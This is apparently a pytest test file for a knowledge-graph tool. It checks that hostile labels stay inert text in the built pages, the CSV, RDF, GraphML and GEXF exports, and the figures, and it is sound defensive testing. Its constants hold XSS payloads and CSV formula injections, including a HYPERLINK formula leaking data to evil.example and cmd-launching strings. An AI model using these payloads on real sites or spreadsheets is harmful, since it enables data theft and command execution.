"""Hostile labels and titles: records -> `kg build` -> `kg render` (Chromium) and `kg export`.

Titles, body names, headings, reasons, platform names and a vocabulary label carry
markup (<script>, </script>, <img onerror>, javascript: links, <svg onload>) and
spreadsheet formulas (= + - @ tab CR). The build accepts them as text. In Chromium no
page runs any of it (window.__pwned stays undefined, no dialog, no request, no CSP
violation) and the strings show literally; every CSV cell starting with a formula
character comes out inert (a leading single quote); Turtle, JSON-LD, N-Triples and
RDF/XML read back to the same graph. A second project puts NUL, U+000C, U+FFFE, U+200B
and U+202E into titles: they survive Turtle, N-Triples and JSON-LD exactly, and RDF/XML,
GraphML and GEXF (XML cannot carry them) are refused with a message naming the case,
writing nothing. Figures draw a label with "$...$" as text, not as matplotlib mathtext.
"""

from __future__ import annotations

import csv
import functools
import io
import re
from pathlib import Path

import pytest

from kg.build.serialize import union
from kg.core.rdfio import parse_dataset

from ..conftest import copy_inputs, graph_digest, made_once
from .conftest import BROWSER_ARGS, CHROMIUM, accepted, refused, run, snapshot

SCRIPT = "<script>window.__pwned=1</script>"
CLOSE = "</script><script>window.__pwned=2</script><!--"
IMG = '<img src=x onerror="window.__pwned=3;alert(3)">'
HREF = '<a href="javascript:window.__pwned=4">click</a>'
SVG = '<svg onload="window.__pwned=5"></svg>'
MARKUP = [SCRIPT, CLOSE, IMG, HREF, SVG]
FORMULAS = {
    "gd-b3-01": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "gd-b3-02": '+cmd|" /C calc"!A0',
    "gd-b3-03": "-2+3+cmd|' /C calc'!A0",
    "gd-b3-06": "@SUM(1+1)*cmd|' /C calc'!A0",
    "gd-b3-07": "\t=1+1",
    "gd-b3-08": "\r=1+1",
}
CONTROLS = "NUL\x00 FF\x0c FFFE\ufffe ZWSP\u200b RLO\u202e end"


def _yaml_string(text: str) -> str:
    """A YAML double-quoted scalar (escapes for controls, quotes, backslashes)."""
    out = []
    for ch in text:
        if ch in '"\\':
            out.append("\\" + ch)
        elif ord(ch) < 0x20 or ch in "\ufffe\u202e\u200b\x7f":
            out.append(f"\\u{ord(ch):04x}")
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


def _set_en(path: Path, occurrence: int, value: str) -> None:
    """Replace the value of the `occurrence`-th two-space `en:` line (0: title, 1: body)."""
    text = path.read_text(encoding="utf-8")
    matches = list(re.finditer(r"^  en: .*$", text, re.M))
    m = matches[occurrence]
    text = text[: m.start()] + "  en: " + _yaml_string(value) + text[m.end() :]
    path.write_text(text, encoding="utf-8")


def _replace(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def _project(tmp: Path) -> Path:
    return copy_inputs(tmp / "project")


def _make_hostile(folder: Path) -> None:
    root = _project(folder)
    cases = root / "data" / "cases"
    _set_en(cases / "gd-b3-04.yaml", 0, f"Title {SCRIPT} {IMG}")
    _set_en(cases / "gd-b3-04.yaml", 1, f"Body {CLOSE}")
    _replace(
        cases / "gd-b3-04.yaml",
        "heading_en: Innovate a regularized mechanism of unannounced visits",
        "heading_en: " + _yaml_string(f"Heading {HREF}"),
    )
    _replace(
        cases / "gd-b3-05.yaml",
        "en: Connect with the Masses",
        "en: " + _yaml_string(f"Platform {SVG}"),
    )
    _replace(cases / "gd-b3-05.yaml", "  - name: 连线群众", '  - name: "=连线群众()"')
    for case, formula in FORMULAS.items():
        _set_en(cases / f"{case}.yaml", 0, formula)
    _replace(
        root / "data" / "vocab" / "mechanisms.ttl",
        '"deputy liaison station"@en',
        '"deputy liaison station <img src=x onerror=\\"window.__pwned=6\\"> fee $\\\\frac{$"@en',
    )
    accepted(run("build", "--root", root, "--out", root / "build"))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """A project whose labels are markup and formulas, built (once for the session;
    read only)."""
    return made_once(tmp_path_factory, "hostile-labels", _make_hostile) / "project"


def _make_controls(folder: Path) -> None:
    root = _project(folder)
    _set_en(root / "data" / "cases" / "gd-b3-04.yaml", 0, CONTROLS)
    accepted(run("build", "--root", root, "--out", root / "build"))


@pytest.fixture(scope="module")
def controls(tmp_path_factory) -> Path:
    """A project whose titles hold NUL, U+000C, U+FFFE, U+200B and U+202E, built (once
    for the session; read only)."""
    return made_once(tmp_path_factory, "control-labels", _make_controls) / "project"


@functools.cache
def _build_digest(trig: Path) -> int:
    """The digest of a build these tests only read, computed once for its exports."""
    return graph_digest(union(parse_dataset(trig)))


def _titles_en(root: Path) -> dict[str, str]:
    out = accepted(
        run(
            "query",
            "--graph",
            root / "build" / "kg.trig",
            "--name",
            "cases",
            "--format",
            "json",
        )
    )
    import json

    rows = json.loads(out)["results"]["bindings"]
    return {r["case"]["value"].rsplit("/", 1)[-1]: r["title_en"]["value"] for r in rows}


def test_the_build_keeps_hostile_labels_as_text(hostile: Path, controls: Path):
    titles = _titles_en(hostile)
    assert titles["gd-b3-04"] == f"Title {SCRIPT} {IMG}"
    for case, formula in FORMULAS.items():
        assert titles[case] == formula
    assert _titles_en(controls)["gd-b3-04"] == CONTROLS


# -- exports --


def test_csv_formula_cells_are_inert(hostile: Path, tmp_path: Path):
    out = tmp_path / "csv"
    accepted(run("export", "--graph", hostile / "build/kg.trig", "--format", "csv", "--out", out))
    cells = []
    for path in sorted(out.glob("*.csv")):
        rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
        cells += [cell for row in rows[1:] for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    numbers = [c for c in dangerous if re.fullmatch(r"-?\d+(\.\d+)?", c)]
    assert dangerous == numbers, f"formula cells left active: {dangerous[:5]}"
    for formula in FORMULAS.values():
        assert "'" + formula in cells, formula
    assert "'=连线群众()" in cells
    assert any(SCRIPT in c for c in cells)  # markup is data in a CSV: kept as it is


@pytest.mark.parametrize(
    "fmt, suffix", [("ttl", ".ttl"), ("nt", ".nt"), ("jsonld", ".jsonld"), ("xml", ".rdf")]
)
def test_rdf_exports_read_back_to_the_same_graph(hostile: Path, tmp_path: Path, fmt, suffix):
    trig = hostile / "build/kg.trig"
    out = tmp_path / f"kg{suffix}"
    accepted(run("export", "--graph", trig, "--format", fmt, "--out", out))
    assert graph_digest(union(parse_dataset(out))) == _build_digest(trig)


@pytest.mark.parametrize(
    "fmt, suffix", [("ttl", ".ttl"), ("nt", ".nt"), ("jsonld", ".jsonld"), ("trig", ".trig")]
)
def test_control_characters_survive_the_exports(controls: Path, tmp_path: Path, fmt, suffix):
    trig = controls / "build/kg.trig"
    out = tmp_path / f"kg{suffix}"
    accepted(run("export", "--graph", trig, "--format", fmt, "--out", out))
    back = union(parse_dataset(out))
    assert any(str(o) == CONTROLS for o in back.objects())
    assert graph_digest(back) == _build_digest(trig)


def test_rdfxml_refuses_control_characters_and_writes_nothing(controls: Path, tmp_path: Path):
    out = tmp_path / "export"
    out.mkdir()
    (out / "kg.rdf").write_bytes(b"previous")
    result = run(
        "export",
        "--graph",
        controls / "build/kg.trig",
        "--format",
        "xml",
        "--out",
        out / "kg.rdf",
        "--force",
    )
    refused(result, "case/gd-b3-04", "control character that RDF/XML cannot carry")
    assert snapshot(out) == {"kg.rdf": b"previous"}


def test_csv_carries_control_characters_without_breaking_rows(controls: Path, tmp_path: Path):
    out = tmp_path / "csv"
    accepted(run("export", "--graph", controls / "build/kg.trig", "--format", "csv", "--out", out))
    text = (out / "cases.csv").read_bytes().decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert all(len(r) == len(rows[0]) for r in rows)
    assert CONTROLS in [c for r in rows for c in r]


def test_network_exports_refuse_control_characters(controls: Path, tmp_path: Path):
    for fmt in ("graphml", "gexf"):
        out = tmp_path / f"kg.{fmt}"
        result = run("export", "--graph", controls / "build/kg.trig", "--format", fmt, "--out", out)
        refused(result, "case:gd-b3-04", f"control character that {fmt} (XML) cannot carry")
        assert not out.exists()


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_network_exports_are_well_formed_xml(hostile: Path, tmp_path: Path, fmt: str):
    import xml.etree.ElementTree as ET

    out = tmp_path / f"kg.{fmt}"
    accepted(run("export", "--graph", hostile / "build/kg.trig", "--format", fmt, "--out", out))
    text = ET.tostring(ET.parse(out).getroot(), encoding="unicode")
    assert "&lt;script&gt;" in text and "<script" not in text.replace("&lt;script", "")


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_figures_draw_dollar_signs_and_markup_as_text(hostile: Path, tmp_path: Path, lang: str):
    """matplotlib would read "$...$" as mathtext (and fail on "$\\frac{"); SVG text is escaped."""
    out = tmp_path / "figures"
    accepted(run("figures", "--graph", hostile / "build/kg.trig", "--out", out, "--lang", lang))
    svg = (out / "mechanism-frequency.svg").read_text(encoding="utf-8")
    text = re.sub(r"<!--.*?-->", "", svg, flags=re.S)  # matplotlib's comments quote labels
    if lang == "en":
        assert "fee $\\frac{$" in text  # drawn as text, not as mathtext
        assert "&lt;img src=x onerror" in text and "<img" not in svg


# -- the browser --


@pytest.fixture(scope="module")
def site(hostile: Path, tmp_path_factory) -> Path:
    def make(folder: Path) -> None:
        out = folder / "views"
        accepted(run("render", "--graph", hostile / "build/kg.trig", "--out", out))
        accepted(run("docs", "--graph", hostile / "build/kg.trig", "--out", out / "docs.html"))

    return made_once(tmp_path_factory, "hostile-labels-views", make) / "views"


@pytest.fixture(scope="module")
def browser():
    if CHROMIUM is None:
        pytest.skip("no `chromium` on PATH (Debian package chromium)")
    from playwright import sync_api  # declared in the test extra: a missing one fails

    with sync_api.sync_playwright() as pw:
        instance = pw.chromium.launch(executable_path=CHROMIUM, args=BROWSER_ARGS)
        yield instance
        instance.close()


INIT = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", function (e) {
  window.__csp.push(e.violatedDirective + " " + (e.sample || ""));
});
"""
PAGES = [
    "index.html",
    "graph.html",
    "case-mechanism.html",
    "cases/case-gd-b3-04.html",
    "cases/case-gd-b3-05.html",
    "cases/case-gd-b3-01.html",
    "docs.html",
]


@pytest.mark.browser
@pytest.mark.parametrize("rel", PAGES)
def test_no_script_runs_in_the_browser(browser, site: Path, rel: str):
    page = browser.new_page(viewport={"width": 1400, "height": 900})
    events: list[str] = []
    requests: list[str] = []
    page.on("dialog", lambda d: (events.append(f"dialog {d.message}"), d.dismiss()))
    page.on("pageerror", lambda e: events.append(f"pageerror {e}"))
    page.on("request", lambda r: requests.append(r.url))
    page.add_init_script(INIT)
    url = (site / rel).as_uri()
    try:
        page.goto(url)
        view = page.locator("#graph-data").count() == 1
        if view:
            page.wait_for_selector('body[data-stable="true"]', state="attached", timeout=60_000)
            page.select_option("#lang", "en")
            for needle in ("onerror", "script", "javascript", "HYPERLINK"):
                page.fill("#search", needle)
                page.press("#search", "Enter")
            data = page.evaluate("document.getElementById('graph-data').textContent")
            assert "<" not in data, "markup in the page's data block"
            strings = page.evaluate(
                "JSON.stringify(JSON.parse(document.getElementById('graph-data').textContent))"
            )
            if rel in ("graph.html", "cases/case-gd-b3-04.html"):
                assert "onerror" in strings  # the hostile text is there, as data
        body = page.evaluate("document.body.innerText")
        if rel == "docs.html":
            assert 'onerror=\\"window.__pwned=6\\"' not in body
            assert "deputy liaison station <img" in body  # shown literally
        assert page.evaluate("typeof window.__pwned") == "undefined"
        scripts = page.evaluate(
            "Array.from(document.scripts).map(s => s.type || 'text/javascript')"
        )
        assert scripts.count("application/json") <= 1
        assert len([s for s in scripts if s != "application/json"]) <= 2, scripts
        assert (
            page.evaluate(
                "document.querySelectorAll('img, svg[onload], a[href^=javascript]').length"
            )
            == 0
        )
        assert page.evaluate("window.__csp") == []
    finally:
        page.close()
    assert not events, events
    assert [u for u in requests if u != url] == [], requests


@pytest.mark.browser
def test_the_browser_check_sees_a_script_that_runs(browser, tmp_path: Path):
    """The control: the same check on a page without our escaping and CSP does fire."""
    path = tmp_path / "unsafe.html"
    path.write_text(f"<!doctype html><html><body>{IMG}{SCRIPT}</body></html>", encoding="utf-8")
    page = browser.new_page()
    page.on("dialog", lambda d: d.dismiss())
    try:
        page.goto(path.as_uri())
        page.wait_for_function("typeof window.__pwned !== 'undefined'", timeout=5_000)
    finally:
        page.close()
